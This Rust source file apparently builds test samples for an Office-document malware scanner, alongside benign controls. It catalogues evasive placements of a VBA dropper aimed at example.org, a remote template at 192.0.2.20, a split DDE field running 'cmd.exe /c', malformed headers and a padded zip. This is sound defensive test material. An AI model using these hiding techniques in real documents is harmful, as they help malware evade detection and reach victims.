//! Binary office documents whose macros lie where few tools look.

use crate::Sample;
use crate::archive::zip::ZipFile;
use crate::document::pdf::Pdf;
use crate::office::activemime::web_archive;
use crate::office::biff::Workbook;
use crate::office::cfb::Cfb;
use crate::office::macros::{self, ticket_project_from, vba_project, with_project};
use crate::office::presentation::{Keeping, presentation};
use crate::office::visio::visio;
use crate::office::word::Word;

/// The samples.
pub(super) fn all() -> Vec<Sample> {
    vec![
        Sample {
            id: "fc1",
            file_name: "組織図.vsd",
            about: "the dropper in a drawing: a compound file cut into packed streams",
            make: || {
                let project = dropper("fc1");
                let text = "組織図".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
                drawing(visio(&[(0x1F, &project)], &text))
            },
        },
        Sample {
            id: "fc2",
            file_name: "会社案内.ppt",
            about: "the dropper in a presentation, in a storage that only the directory of persistent objects leads to",
            make: || presentation(&dropper("fc2"), Keeping::Hidden).build(),
        },
        Sample {
            id: "fc2d",
            file_name: "会社案内.ppt",
            about: "the dropper in a presentation whose deflated storage ends in ruins",
            make: || presentation(&dropper("fc2d"), Keeping::Damaged).build(),
        },
        Sample {
            id: "fc3",
            file_name: "報告書.doc",
            about: "a text with a workbook in it that brings the dropper",
            make: || {
                let project = ticket_project_from("fc3", "http://example.org/w/");
                let file = Cfb::new()
                    .class("", "00020906-0000-0000-C000-000000000046")
                    .stream("WordDocument", vec![0; 4096])
                    .class("ObjectPool/_1700000000", "00020820-0000-0000-C000-000000000046")
                    .stream("ObjectPool/_1700000000/\u{3}ObjInfo", vec![0; 6])
                    .stream("ObjectPool/_1700000000/Workbook", Workbook::new().sheet("Sheet1", 0, 0).build());
                with_project(file, "ObjectPool/_1700000000/_VBA_PROJECT_CUR", &project).build()
            },
        },
        Sample {
            id: "fc4",
            file_name: "議事録.doc",
            about: "the dropper in a document whose header leads nowhere and states another size of sectors",
            make: || {
                let mut file = macros::reply_doc("fc4", "http://example.org/w/");
                file[30] = 12;
                file[48..52].fill(0xFF);
                file
            },
        },
        Sample {
            id: "fc5",
            file_name: "請求書.doc",
            about: "a web archive with the dropper behind a line of junk",
            make: || [b"\x00\x01junk\r\n".as_slice(), &web_archive("請求書", &dropper("fc5"))].concat(),
        },
        Sample {
            id: "fc6",
            file_name: "請求書.doc",
            about: "a PDF behind whose objects a web archive with the dropper stands",
            make: || {
                let archive = web_archive("請求書", &dropper("fc6"));
                Pdf::new().text("請求書").after(&[b"\r\n".as_slice(), &archive].concat()).build()
            },
        },
        Sample {
            id: "fc7",
            file_name: "申込書.doc",
            about: "a Word 97 document attached to a template at a numeric address",
            make: || Word::new().narrow("text").template("http://192.0.2.20/t.dot").build().build(),
        },
        Sample {
            id: "fc8",
            file_name: "見積書.doc",
            about: "a DDE field cut over pieces of either width, whose command is a document variable",
            make: || {
                let word = Word::new()
                    .wide("\u{13} DDEA")
                    .narrow("UTO \u{13} DOCVARIABLE v \u{14}\u{15}")
                    .wide("\u{14}\u{15}");
                word.variable("v", "cmd.exe /c harmless-none.exe").build().build()
            },
        },
        Sample {
            id: "fc9",
            file_name: "請求書.zip",
            about: "a document blown up by zeros at its end",
            make: || {
                let document = Word::new().narrow("text").build().build();
                let padded = [document, vec![0; 9 << 20]].concat();
                ZipFile::new().entry("請求書.doc", padded).build()
            },
        },
        Sample {
            id: "fc10",
            file_name: "VbaProject.OTM",
            about: "the macros of Outlook with the dropper among them",
            make: || {
                let project = ticket_project_from("fc10", "http://example.org/w/");
                let file = Cfb::new().stream("OutlookProjectData", vec![0; 8]);
                with_project(file, "OutlookVbaData", &project).build()
            },
        },
        Sample {
            id: "fc11",
            file_name: "仕様書.rtf",
            about: "rich text with a document and its dropper behind it",
            make: || {
                [b"{\\rtf1\\ansi text}\r\n".as_slice(), &macros::reply_doc("fc11", "http://example.org/w/")].concat()
            },
        },
        Sample {
            id: "bc1",
            file_name: "配置図.vsd",
            about: "a drawing of one shape",
            make: || drawing(visio(&[], "会議室 A から C の配置図です。改訂があれば総務まで。".as_bytes())),
        },
        Sample {
            id: "bc3",
            file_name: "規程.doc",
            about: "a Word 97 document with page numbers, a variable and a template of the own network",
            make: || {
                let word = Word::new().wide("就業規則 \u{13} PAGE \u{14}1\u{15}").narrow(" end");
                word.variable("version", "3").template(r"\\filesv01\templates\kitei.dot").build().build()
            },
        },
        Sample {
            id: "bc2",
            file_name: "研修.ppt",
            about: "a presentation whose project shows a greeting on a button",
            make: || {
                let module = "Sub Button1_Click()\n    MsgBox \"ようこそ\"\nEnd Sub\n";
                let modules = vec![crate::office::vba::Module::standard("Module1", module)];
                presentation(&vba_project(&crate::office::vba::Project::new(modules)), Keeping::Deflated).build()
            },
        },
    ]
}

fn dropper(id: &str) -> Vec<u8> {
    macros::vba_project(&ticket_project_from(id, "http://example.org/w/"))
}

fn drawing(document: Vec<u8>) -> Vec<u8> {
    Cfb::new().class("", "00021A14-0000-0000-C000-000000000046").stream("VisioDocument", document).build()
}
